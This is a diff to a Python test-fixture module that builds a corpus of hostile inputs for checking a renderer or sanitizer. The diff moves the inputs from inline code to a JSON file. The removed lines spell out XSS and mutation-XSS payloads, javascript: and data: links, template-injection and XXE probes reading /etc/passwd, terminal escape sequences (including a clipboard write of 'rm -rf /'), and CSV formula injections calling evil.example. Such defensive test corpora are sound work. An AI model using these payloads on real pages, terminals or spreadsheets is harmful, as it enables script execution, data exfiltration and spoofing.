@@ -6,10 +6,10 @@ box; what steers a terminal, holds a control character; what a spreadsheet would
 
 import base64
 import csv
+import json
 from collections.abc import Iterator
 from contextlib import closing, contextmanager
 from datetime import date, timedelta
-from html import escape
 from pathlib import Path
 
 import orjson
@@ -51,140 +51,34 @@ endpoints:
   fields: {{day: {text}, amount: {text}}}
   as_of: {{policy: filter_rows, residual: high, stamp: {{field: day, grain: day}}}}
 """
-_ENTITIES = "".join(f"&#{ord(char)};" for char in "javascript:")
+#: Texts by family and name: what runs or fetches where a page takes it for HTML or Markdown, what runs when somebody presses what
+#: it shows, what leaves its box or lies over a neighbour, what steers a terminal, what a spreadsheet takes for a formula.
+TEXTS: dict[str, dict[str, str]] = json.loads(Path(__file__).with_suffix(".json").read_text(encoding="utf-8"))
+COVERING, STEERING, FORMULAS = TEXTS["covering"], TEXTS["steering"], TEXTS["formula"]
+
+
+def _filled(family: str, canary: str) -> dict[str, str]:
+    parts = {
+        "@strike@": STRIKE,
+        "@canary@": canary,
+        "@document@": base64.b64encode(f"<script>{STRIKE}</script>".encode()).decode(),
+        "@javascript@": "".join(f"&#{ord(char)};" for char in "javascript:"),
+    }
+    texts = dict(TEXTS[family])
+    for mark, part in parts.items():
+        texts = {name: text.replace(mark, part) for name, text in texts.items()}
+    return texts
 
 
 def active(canary: str) -> dict[str, str]:
     """Texts that run or fetch where a page takes them for HTML or Markdown."""
-    script = f"<script>{STRIKE}</script>"
-    image = f'<img src=x onerror="{STRIKE}">'
-    document = base64.b64encode(f"<script>{STRIKE}</script>".encode()).decode()
-    return {
-        "script": script,
-        "script of another place": f'<script src="{canary}/script.js"></script>',
-        "script in odd case": f"<ScRiPt\t>{STRIKE}</sCrIpT >",
-        "dialog": "<script>alert('struck')</script>",
-        "event handler": image,
-        "event handler without quotes": f"<img/src=x/onerror={STRIKE}>",
-        "event handler of an open element": f'<details open ontoggle="{STRIKE}"><summary>x</summary></details>',
-        "event handler of focus": f'<input autofocus onfocus="{STRIKE}">',
-        "event handler of an animation": f'<style>@keyframes x{{}}</style><b style="animation:x 1s" onanimationstart="{STRIKE}">x</b>',
-        "svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{STRIKE}"><script>{STRIKE}</script></svg>',
-        "svg of another place": f'<svg><image href="{canary}/svg.png"/><use href="{canary}/use.svg#x"/></svg>',
-        "svg with HTML in it": f'<svg><foreignObject><iframe srcdoc="{escape(script)}"></iframe></foreignObject></svg>',
-        "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={STRIKE}&gt;">',
-        "iframe": f'<iframe srcdoc="{escape(script)}"></iframe>',
-        "iframe of another place": f'<iframe src="{canary}/frame"></iframe>',
-        "iframe of data": f'<iframe src="data:text/html;base64,{document}"></iframe>',
-        "object": f'<object data="{canary}/object"></object><embed src="{canary}/embed">',
-        "form": f'<form action="{canary}/form" id=f><input name=q></form><script>f.submit()</script>',
-        "button": f'<button formaction="{canary}/form" form=f>press</button>',
-        "meta refresh": f'<meta http-equiv="refresh" content="0;url={canary}/refresh">',
-        "base": f'<base href="{canary}/">',
-        "stylesheet": f'<link rel="stylesheet" href="{canary}/sheet.css">',
-        "style with import": f'<style>@import "{canary}/import.css";</style>',
-        "style with a picture": f'<div style="background:url({canary}/back.png)">x</div>',
-        "picture": f'<img src="{canary}/pixel.png"><img srcset="{canary}/set.png 1x">',
-        "preload": f'<link rel="preload" as="image" href="{canary}/preload.png">',
-        "video": f'<video src="{canary}/video" poster="{canary}/poster.png" autoplay></video>',
-        "markdown picture": f"![x]({canary}/markdown.png)",
-        "mutation: noscript": f'<noscript><p title="</noscript><img src=x onerror={STRIKE}>"></noscript>',
-        "mutation: template": f"<template><img src=x onerror={STRIKE}></template>",
-        "mutation: title": f'<title><a title="</title><img src=x onerror={STRIKE}>">',
-        "mutation: xmp": f'<xmp><p title="</xmp><img src=x onerror={STRIKE}>"></xmp>',
-        "mutation: comment": f"<!--><img src=x onerror={STRIKE}>-->",
-        "mutation: cdata": f"<svg><![CDATA[><img src=x onerror={STRIKE}>]]></svg>",
-        "mutation: textarea": f'<textarea><p title="</textarea><img src=x onerror={STRIKE}>"></textarea>',
-        "mutation: select": f'<select><template><style><!--</style><img title="--><img src=x onerror={STRIKE}>">',
-        "closes its place": f"</pre></td></table></div></body></html>{image}",
-        "closes an attribute": f'"><img src=x onerror="{STRIKE}">',
-        "closes a script": f"</script>{script}",
-        "entities": f"&lt;img src=x onerror={STRIKE}&gt;",
-        "entities twice": f"&amp;lt;img src=x onerror={STRIKE}&amp;gt;",
-        "a zero byte": f"<scr\0ipt>{STRIKE}</scr\0ipt><img src=x one\0rror={STRIKE}>",
-        "wide letters": f"＜script＞{STRIKE}＜/script＞",
-        "utf-7": f"+ADw-script+AD4-{STRIKE}+ADw-/script+AD4-",
-        "half a pair": f"\ud800<img src=x onerror={STRIKE}>",
-        "jinja": "{{ 7*7 }}{% for x in [1] %}{{ cycler.__init__.__globals__ }}{% endfor %}{# x #}",
-        "mustache": "{{{ constructor.constructor('top.struck=1')() }}} <%= 7*7 %> ${top.struck=1} #{7*7}",
-        "latex": "$\\href{javascript:top.struck=1}{x}$ \\input{/etc/passwd} \\write18{id} $$\\require{html}\\style{position:fixed}{x}$$",
-        "XML": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:t>&e;</w:t>',
-    }  # fmt: skip
+    return _filled("active", canary)
 
 
 def links(canary: str) -> dict[str, str]:
     """Texts that run when somebody presses what they show."""
-    document = base64.b64encode(f"<script>{STRIKE}</script>".encode()).decode()
-    return {
-        "javascript": f'<a href="javascript:{STRIKE}">press</a>',
-        "javascript in entities": f'<a href="{_ENTITIES}{STRIKE}">press</a>',
-        "javascript with a line break": f'<a href="java\nscript:{STRIKE}">press</a>',
-        "javascript with a control character": f'<a href="\x01javascript:{STRIKE}">press</a>',
-        "vbscript": f'<a href="vbscript:{STRIKE}">press</a>',
-        "data": f'<a href="data:text/html;base64,{document}">press</a>',
-        "svg": f'<svg><a xlink:href="javascript:{STRIKE}"><text y=20>press</text></a></svg>',
-        "markdown": f"[press](javascript:{STRIKE})",
-        "markdown in brackets": f"[press](<javascript:{STRIKE}>)",
-        "markdown in odd case": f"[press](JaVaScRiPt:{STRIKE})",
-        "markdown in entities": f"[press]({_ENTITIES}{STRIKE})",
-        "markdown in named entities": f"[press](javascript&colon;{STRIKE})",
-        "markdown with a tab": f"[press](java&Tab;script:{STRIKE})",
-        "markdown by reference": f"[press][r]\n\n[r]: javascript:{STRIKE}",
-        "markdown of itself": f"<javascript:{STRIKE}>",
-        "markdown of data": f"[press](data:text/html;base64,{document})",
-    }
+    return _filled("link", canary)
 
-
-#: Texts that leave their box, hide a neighbour, or lie over one.
-COVERING = {
-    "fixed": '<div style="position:fixed;inset:0;background:#fff;z-index:99">covered</div>',
-    "absolute": '<div style="position:absolute;top:-500px;left:-500px;width:9000px;height:9000px">covered</div>',
-    "sticky": '<div style="position:sticky;top:-900px">covered</div>',
-    "margins": '<div style="margin-top:-900px;margin-left:-900px">covered</div>',
-    "width": '<div style="width:9000px;margin-left:-3000px">covered</div>',
-    "transform": '<div style="transform:translate(-600px,-600px) scale(9)">covered</div>',
-    "shadow": '<div style="box-shadow:0 0 0 9999px #fff">covered</div>',
-    "outline": '<div style="outline:9999px solid #fff">covered</div>',
-    "float": '<div style="float:left;margin-left:-2000px;width:9000px">covered</div>',
-    "style of the page": "<style>body *{display:none!important}</style><b>covered</b>",
-    "table": '<table style="position:fixed;top:0"><tr><td style="position:absolute;top:-99px">covered</td></tr></table>',
-}
-
-#: Texts that steer a terminal, or turn what is read around.
-STEERING = {
-    "colour": "\x1b[31mred\x1b[0m",
-    "hidden": "\x1b[8mhidden\x1b[28m",
-    "clear the screen": "\x1b[2J\x1b[Hverified: 9 proofs, 0 differences",
-    "cursor up": "\x1b[9A\x1b[2Kall is well",
-    "title": "\x1b]0;another title\x07",
-    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
-    "link": "\x1b]8;;https://evil.example\x1b\\https://example.org\x1b]8;;\x1b\\",
-    "device": '\x1bP$q"p\x1b\\\x1b[c\x1b[6n',
-    "one byte forms": "\x9b31mred\x9d0;title\x9c\x90q\x9c",
-    "carriage return": "refused\rverified",
-    "backspace": "no\x08\x08yes",
-    "bell and nul": "\x07\x00\x0e\x0f\x7f",
-    "another line": "fine\nverified: 9 proofs, 0 differences",
-    "right to left": "\u202egpj.exe\u202c \u2066x\u2069 \u200fx",
-    "no width": "pay\u200bpal \ufeffx\u2060\u00ad",
-    "separators": "one\u2028two\u2029three\x85four",
-    "tags": "fine\U000e0041\U000e0042",
-}
-
-#: Texts that a spreadsheet takes for formulas.
-FORMULAS = {
-    "equals": "=cmd|' /C calc'!A0",
-    "plus": "+1+cmd|' /C calc'!A0",
-    "minus": "-2+3+cmd|' /C calc'!A0",
-    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "link": '=HYPERLINK("https://evil.example?"&A1,"x")',
-    "tab": "\t=1+1",
-    "carriage return": "\r=1+1",
-    "quoted": "'=1+1",
-    "after a line": "x\n=1+1",
-    "wide": "＝1+1",
-    "comma and quotes": '",=1+1,"',
-}  # fmt: skip
 
 #: What an honest author writes beside all that; it has to stay.
 HONEST = (
@@ -195,9 +89,7 @@ HONEST = (
 
 def corpus(canary: str) -> dict[str, str]:
     """All of it by name."""
-    families = {"active": active(canary), "link": links(canary), "covering": COVERING,
-                "steering": STEERING, "formula": FORMULAS}  # fmt: skip
-    return {f"{family}: {name}": text for family, texts in families.items() for name, text in texts.items()}
+    return {f"{family}: {name}": text for family in TEXTS for name, text in _filled(family, canary).items()}
 
 
 class _Canary(Quiet):
